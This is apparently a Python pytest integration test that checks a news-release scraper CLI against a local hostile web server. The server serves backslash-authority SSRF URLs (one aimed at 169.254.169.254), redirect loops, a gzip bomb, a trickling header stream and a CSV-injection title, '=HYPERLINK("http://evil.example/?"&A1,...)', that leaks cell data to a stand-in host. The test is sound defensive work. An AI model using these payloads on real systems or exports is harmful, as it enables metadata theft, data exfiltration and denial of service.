"""A hostile web, all at once (issue 19, "Done when"): one `optally run` on PostgreSQL over
one NCA-shaped site on 127.0.0.1 that serves every attack of the issue together.

The listing links to good releases with known figures and to:
- a link whose authority holds a backslash (``http://127.0.0.2:P\\@127.0.0.1:Q/...``),
  which urllib3 would dial at 127.0.0.2, and one aimed at the metadata address
  (``http://169.254.169.254\\@127.0.0.1:Q/...``); its "next page" link is another;
- a release that redirects to 127.0.0.2, a redirect loop, a gzip bomb (256 MiB of zeros,
  256 KB on the wire), a page that trickles its status line and headers without end;
- releases that are valid but hostile: one served with ``charset=idna``; one whose ETag
  holds a NUL, whose Content-Type names a 60-character charset and whose text counts
  3,000,000,000 arrests for drug offences; one whose title begins with ``=HYPERLINK(``;
  one that says "arrested -45 people and safeguarded 99 potential victims".

The run is a child process with short timeouts; every TCP connection it opens goes
through a guard that logs the address and refuses any that is not loopback (so a
regression can never reach a real metadata service). A second server on 127.0.0.2 counts
the connections it accepts. Then `optally export --format csv` and `optally metrics
--format csv` are read back with the csv module.
"""

from __future__ import annotations

import csv
import html
import io
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml
from sqlalchemy import create_engine, text

from tests.faultserver import FaultServer, _Handler
from tests.reliability_helpers import ROOT, child_env
from tests.test_hostile_data import (
    ALPHA,
    BRAVO,
    EXPECTED,
    HOSTILE,
    HUGE,
    LONG_CHARSET,
    NUL_ETAG,
    _figures_by_page,
    article,
)
from tests.test_hostile_network import ConnectionRecorder

RUN_BOUND_S = 120.0  # "ends by itself in minutes": measured 18 s on 2 busy cores
CHILD_TIMEOUT_S = 240.0  # the test's own guard, past the bound: a hung run fails the test
TOTAL_TIMEOUT_S = 2.0  # OPTALLY_TOTAL_TIMEOUT: what one trickled request may cost
MAX_ATTEMPTS = 2  # OPTALLY_MAX_ATTEMPTS: the trickle is retried once, and still ends
MAX_BODY_BYTES = 5 * 1024 * 1024  # the default body cap
BOMB_BYTES = 256 * 1024 * 1024  # zeros, gzipped to about 256 KB: 50 times the cap

HYPERLINK_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click") Operation Ember week of action'
CAFE_TITLE = "Operation Delta week of action at a café"
HTML_UTF8 = "text/html; charset=utf-8"

# The releases as served: slug -> (title, date, body, Content-Type, extra headers).
CHARLIE = article(
    "Operation Charlie week of action",
    [
        "Officers from 8 forces arrested 16 people and safeguarded 5 potential victims "
        "during Operation Charlie."
    ],
    "24 November 2021",
)
CAFE = article(
    CAFE_TITLE,
    [
        "Officers arrested 14 people at a café in Leeds and safeguarded 6 potential "
        "victims during Operation Delta."
    ],
    "01 December 2021",
)
FORMULA = article(
    HYPERLINK_TITLE,
    ["Officers from 4 forces arrested 23 people during Operation Ember."],
    "08 December 2021",
)
MINUS = article(
    "Operation Foxtrot week of action",
    ["Officers arrested -45 people and safeguarded 99 potential victims during Operation Foxtrot."],
    "15 December 2021",
)


@dataclass(frozen=True, slots=True)
class Release:
    slug: str
    title: str
    published: date
    body: bytes
    content_type: str = HTML_UTF8
    headers: tuple[tuple[str, str], ...] = ()


RELEASES = [
    Release("operation-alpha", "Operation Alpha week of action", date(2021, 11, 3), ALPHA),
    Release("operation-bravo", "Operation Bravo week of action", date(2021, 11, 10), BRAVO),
    Release("operation-charlie", "Operation Charlie week of action", date(2021, 11, 24), CHARLIE),
    # The hostile-but-valid ones, loaded cleaned.
    Release(
        "operation-hostile",
        "Operation Hostile week of action",
        date(2021, 11, 17),
        HOSTILE,
        f"text/html; charset={LONG_CHARSET}",
        (("ETag", NUL_ETAG),),
    ),
    Release("operation-delta", CAFE_TITLE, date(2021, 12, 1), CAFE, "text/html; charset=idna"),
    Release("operation-ember", HYPERLINK_TITLE, date(2021, 12, 8), FORMULA),
    Release("operation-foxtrot", "Operation Foxtrot week of action", date(2021, 12, 15), MINUS),
]

# Each valid page's operation-scope figures, exactly (keyed by slug).
FIGURES: dict[str, dict[str, float]] = {
    "operation-alpha": EXPECTED["alpha"],
    "operation-bravo": EXPECTED["bravo"],
    "operation-charlie": {
        "arrests": 16,
        "duration_days": 7,
        "forces_involved": 8,
        "potential_victims": 5,
    },
    "operation-hostile": EXPECTED["hostile"],  # the 3,000,000,000 is no figure
    "operation-delta": {"arrests": 14, "duration_days": 7, "potential_victims": 6},
    "operation-ember": {"arrests": 23, "duration_days": 7, "forces_involved": 4},
    "operation-foxtrot": {"duration_days": 7, "potential_victims": 99},  # no 45 anywhere
}

# The pages that must fail, under /news/ so they match the nca profile's article pattern:
# slug -> the fault of tests/faultserver.py that serves it.
TRICKLE, LOOP, AWAY, BOMB = "slow-headers", "redirect-loop", "moved-away", "gzip-bomb"
FAULTS = {TRICKLE: "trickle-headers", LOOP: "redirect-loop", AWAY: "redirect-to"}


def gzip_bomb(size: int = BOMB_BYTES) -> bytes:
    """``size`` zero bytes, gzipped in 1 MiB steps (never held uncompressed)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)  # gzip framing
    block = bytes(1024 * 1024)
    return b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()


def nca_listing(items: list[tuple[str, str, date]], next_href: str) -> bytes:
    """The NCA news listing (Joomla 3 blog, as tests/faultserver.py serves it) with these
    (href, title, date) items in rows of three and a "Go to next > page" link."""
    cells = [
        '<div class="span4"><div class="item column-1" itemprop="blogPost">'
        f'<div class="page-header"><h2 itemprop="name"><a href="{html.escape(href)}" '
        f'itemprop="url">{html.escape(title)}</a></h2></div>'
        f'<div class="item-date">{day.strftime("%d %B %Y")}</div>'
        "<p>A short introduction to the release.</p></div></div>"
        for href, title, day in items
    ]
    rows = "".join(
        f'<div class="row-fluid"><div class="items-row cols-3 row-fluid clearfix">'
        f"{''.join(cells[i : i + 3])}</div></div>"
        for i in range(0, len(cells), 3)
    )
    return (
        '<!DOCTYPE html><html lang="en-gb"><head><meta charset="utf-8"><title>News</title>'
        '</head><body><main><div class="blog news-page" itemscope '
        f'itemtype="https://schema.org/Blog">{rows}<div class="pagination"><ul '
        'class="pagination-list"><li><a aria-label="Go to next &gt; page" '
        f'href="{html.escape(next_href)}">Next &gt;</a></li></ul></div></div></main>'
        "</body></html>"
    ).encode()


class HostileSite(FaultServer):
    """FaultServer (robots.txt, its faults, its record of requests) serving the /news
    listing and the releases above, and under /news/ the pages that must fail."""

    def __init__(self, other_port: int) -> None:
        super().__init__(articles=0)
        self.other_port = other_port
        self.bomb = gzip_bomb()
        self.listing = b""
        self.next_page = ""

    def start(self) -> HostileSite:  # FaultServer.start, with the handler below
        handler = type("Handler", (_HostileHandler,), {"fault": self})
        self._httpd = ThreadingHTTPServer((self.address, 0), handler)
        self._httpd.daemon_threads = True
        self._thread = _serve(self._httpd)
        self.next_page = self.backslash_url("/news?start=16")
        self.listing = nca_listing(self._items(), self.next_page)
        return self

    def backslash_url(self, path: str, to: str | None = None) -> str:
        """A URL urllib.parse reads as this site and urllib3 would dial at ``to``."""
        return f"http://{to or f'127.0.0.2:{self.other_port}'}\\@127.0.0.1:{self.port}{path}"

    def _items(self) -> list[tuple[str, str, date]]:
        day = date(2021, 12, 20)
        return [
            *[(f"/news/{r.slug}", r.title, r.published) for r in RELEASES],
            (self.backslash_url("/news/to-127-0-0-2"), "Operation Golf week of action", day),
            (
                self.backslash_url("/news/meta-data", to="169.254.169.254"),
                "Operation Hotel week of action",
                day,
            ),
            *[
                (f"/news/{slug}", f"Operation {slug} week of action", day)
                for slug in (*FAULTS, BOMB)
            ],
        ]


def _serve(httpd: ThreadingHTTPServer) -> threading.Thread:
    thread = threading.Thread(
        target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    return thread


class _HostileHandler(_Handler):
    fault: HostileSite

    def _route(self, nth: int) -> None:
        site = self.fault
        slug = self.path.removeprefix("/news/")
        release = next((r for r in RELEASES if r.slug == slug), None)
        if self.path == "/news":
            self._send(200, site.listing)
        elif release is not None:
            self._send(200, release.body, release.content_type, dict(release.headers))
        elif slug == AWAY:
            to = f"http://127.0.0.2:{site.other_port}/news/{AWAY}"
            self._fault("redirect-to", {"to": [to]}, nth)
        elif slug in FAULTS:
            self._fault(FAULTS[slug], {}, nth)
        elif slug == BOMB:
            self._send(200, site.bomb, HTML_UTF8, {"Content-Encoding": "gzip"})
        else:
            super()._route(nth)  # robots.txt, and 404 for anything else


# Every TCP connection the child opens is logged ("host port") and refused unless the
# address is loopback: the run may reach the site and its own Prefect API, nothing else.
GUARDED_CLI = r"""
import ipaddress, os, socket, sys, threading
log_path, lock = os.environ["OPTALLY_TEST_CONNECT_LOG"], threading.Lock()
original = socket.socket.connect

def connect(self, address):
    if self.family in (socket.AF_INET, socket.AF_INET6):
        host = str(address[0])
        with lock, open(log_path, "a", encoding="utf-8") as log:
            log.write(f"{host} {address[1]}\n")
        try:
            loopback = ipaddress.ip_address(host.partition("%")[0]).is_loopback
        except ValueError:
            loopback = False
        if not loopback:
            raise ConnectionRefusedError(f"test guard: {host} is not loopback")
    return original(self, address)

socket.socket.connect = connect
from app.cli import main
sys.exit(main(sys.argv[1:]))
"""


def _optally(
    argv: list[str], env: dict[str, str], script: str | None = None
) -> tuple[int, str, str]:
    """`optally ARGV` in a child (``script`` instead of the plain CLI); (code, out, err)."""
    cmd = (
        [sys.executable, "-c", script, *argv]
        if script
        else [sys.executable, "-m", "app.cli", *argv]
    )
    child = subprocess.Popen(
        cmd, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    try:
        out, err = child.communicate(timeout=CHILD_TIMEOUT_S)
    except subprocess.TimeoutExpired:
        child.kill()
        out, err = child.communicate()
        raise AssertionError(f"`optally {argv[0]}` did not end:\n{err[-3000:]}") from None
    return child.returncode, out, err


def _rows(engine: Any, sql: str, **params: Any) -> list[tuple[Any, ...]]:
    with engine.connect() as conn:
        return [tuple(r) for r in conn.execute(text(sql), params)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would evaluate this cell (OWASP "CSV Injection"): text that
    begins with = + - @, a tab or a CR, or with = + - @ after spaces, line breaks or
    double quotes. A leading single quote makes it text; a number is a number."""
    if _is_number(cell) or cell.startswith("'"):
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip(' \r\n"')[:1] in ("=", "+", "-", "@")


def _csv(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data, newline="")))


@pytest.fixture
def other_host() -> Iterator[ConnectionRecorder]:
    recorder = ConnectionRecorder()
    yield recorder
    recorder.close()


@pytest.mark.slow
@pytest.mark.postgres
def test_one_run_over_a_site_serving_every_attack_at_once(
    pg_url: str, other_host: ConnectionRecorder, tmp_path: Path
) -> None:
    with HostileSite(other_host.port) as site:
        base = site.url("")
        sources = tmp_path / "sources.yaml"
        entry = {
            "name": "hostile-site",
            "kind": "listing",
            "profile": "nca",
            "start_url": site.url("/news"),
            "allowed_hosts": ["127.0.0.1"],
            "allow_private_hosts": True,
            "rate_limit": 0,
        }
        sources.write_text(yaml.safe_dump({"sources": [entry]}), encoding="utf-8")
        connections = tmp_path / "connections.log"
        connections.touch()
        env = child_env(
            tmp_path / "prefect-home",  # its own temporary Prefect API, as a user's run
            OPTALLY_CONNECT_TIMEOUT="1",
            OPTALLY_READ_TIMEOUT="2",
            OPTALLY_TOTAL_TIMEOUT=str(TOTAL_TIMEOUT_S),
            OPTALLY_MAX_ATTEMPTS=str(MAX_ATTEMPTS),
            OPTALLY_BACKOFF_BASE="0.1",
            OPTALLY_TEST_CONNECT_LOG=str(connections),
        )
        started = time.monotonic()
        code, out, err = _optally(
            ["run", "--sources", str(sources), "--db", pg_url], env, GUARDED_CLI
        )
        took = time.monotonic() - started
        asked = site.paths()
        port = site.port

    # It ends by itself, in time, with exit 0.
    assert code == 0, err[-4000:]
    assert took < RUN_BOUND_S, f"the run took {took:.0f} s"
    assert "Traceback" not in err, err[-4000:]

    # The bad URLs are recorded failures, with their reasons, and printed in the summary.
    failures = {
        f"{base}/news/{TRICKLE}": ("timeout", None, MAX_ATTEMPTS),
        f"{base}/news/{LOOP}": ("too many redirects (more than 5)", 302, 6),
        f"{base}/news/{AWAY}": ("host not allowed: 127.0.0.2 (redirect)", 302, 1),
        f"{base}/news/{BOMB}": (f"body larger than {MAX_BODY_BYTES} bytes", 200, 1),
        # The next-page link (backslash authority): discovery's failure, nothing sent.
        site.next_page: ("invalid url: backslash in host", None, 0),
    }
    engine = create_engine(pg_url)
    try:
        recorded = _rows(engine, "SELECT url, reason, http_status, attempts FROM fetch_failures")
        pages = _rows(
            engine,
            "SELECT p.url, a.title FROM pages p LEFT JOIN articles a ON a.page_id = p.id",
        )
        by_page = _figures_by_page(engine)
        operations = _rows(
            engine,
            "SELECT a.url, o.name FROM articles a JOIN operations o ON o.id = a.operation_id",
        )
        hostile = _rows(
            engine,
            "SELECT v.encoding, p.etag FROM pages p JOIN page_versions v ON v.page_id = p.id"
            " WHERE p.url = :u",
            u=f"{base}/news/operation-hostile",
        )
        cafe = _rows(
            engine,
            "SELECT v.encoding, a.body FROM pages p JOIN page_versions v ON v.page_id = p.id"
            " JOIN articles a ON a.version_id = v.id WHERE p.url = :u",
            u=f"{base}/news/operation-delta",
        )
        breakdowns = _rows(
            engine,
            "SELECT a.url, b.offence, b.count FROM arrest_breakdowns b"
            " JOIN articles a ON a.id = b.article_id",
        )
        absurd = _rows(
            engine,
            "SELECT metric, value FROM figures WHERE value IN (45, :huge)"
            " UNION ALL SELECT offence, count FROM arrest_breakdowns WHERE count IN (45, :huge)",
            huge=HUGE,
        )
    finally:
        engine.dispose()
    assert {u: (r, s, a) for u, r, s, a in recorded} == failures
    # The run summary lists them: discovery's (the next-page link) apart from the pages'.
    page_failures = {u: f for u, f in failures.items() if u != site.next_page}
    assert f"failed {len(page_failures)}, discovery failed 1\n" in out, out
    assert (
        f"  discovery failed: hostile-site: {site.next_page}: invalid url: backslash in host "
        "(status None, 0 attempt(s))"
    ) in out, out
    for url, (reason, status, attempts) in page_failures.items():
        assert f"  failed: {url}: {reason} (status {status}, {attempts} attempt(s))" in out, out

    # Every valid page is loaded with its exact figures; nothing else became a page.
    assert sorted(pages) == sorted((f"{base}/news/{r.slug}", r.title) for r in RELEASES)
    assert by_page == FIGURES
    assert sorted(operations) == sorted(
        (f"{base}/news/{r.slug}", r.slug.replace("operation-", "Operation ").title())
        for r in RELEASES
    )  # one operation each, none merged into another
    assert hostile == [(LONG_CHARSET[:40], '"v1etag"')]  # cut to VARCHAR(40), NUL gone
    assert breakdowns == [(f"{base}/news/operation-hostile", "modern slavery offences", 20)]
    assert cafe[0][0] == "idna" and "at a café in Leeds" in cafe[0][1]  # read as UTF-8
    assert absurd == []  # 99 potential victims, and no figure 45 or 3,000,000,000

    # No contact outside the allowed hosts.
    assert other_host.accepted == 0  # 127.0.0.2 never saw a TCP connection
    dialled = {line.split()[0] for line in connections.read_text().splitlines()}
    assert dialled == {"127.0.0.1"}, dialled  # the site and the run's own Prefect API
    assert f"127.0.0.1 {port}" in connections.read_text().splitlines()
    # The site was asked for robots.txt, the listing and the pages it links to, no more.
    assert set(asked) == {
        "/robots.txt",
        "/news",
        *(f"/news/{r.slug}" for r in RELEASES),
        *(f"/news/{slug}" for slug in (*FAULTS, BOMB)),
    }

    # The exports open safely in a spreadsheet: the =HYPERLINK( title is text.
    read_env = child_env(tmp_path / "prefect-home")
    out_dir = tmp_path / "export"
    code, _out, err = _optally(
        ["export", "--format", "csv", "--out", str(out_dir), "--db", pg_url], read_env
    )
    assert code == 0, err[-3000:]
    code, metrics_out, err = _optally(["metrics", "--format", "csv", "--db", pg_url], read_env)
    assert code == 0, err[-3000:]

    neutral = "'" + HYPERLINK_TITLE
    exported = {p.name: _csv(p.read_text(encoding="utf-8")) for p in out_dir.glob("*.csv")}
    metrics = _csv(metrics_out)
    summary = {r["name"]: r for r in exported["operation_summary.csv"]}
    assert summary["Operation Ember"]["title"] == neutral
    assert summary["Operation Ember"]["arrests"] == "23"
    claims = [r for r in exported["figure_claims.csv"] if r["url"].endswith("/operation-ember")]
    assert {r["article_title"] for r in claims} == {neutral}
    ember = next(r for r in metrics if r["name"] == "Operation Ember")
    assert (ember["title"], ember["arrests"]) == (neutral, "23")
    unsafe = [
        (name, cell)
        for name, rows in [*exported.items(), ("metrics", metrics)]
        for row in rows
        for cell in row.values()
        if _runs_as_formula(cell)
    ]
    assert unsafe == []
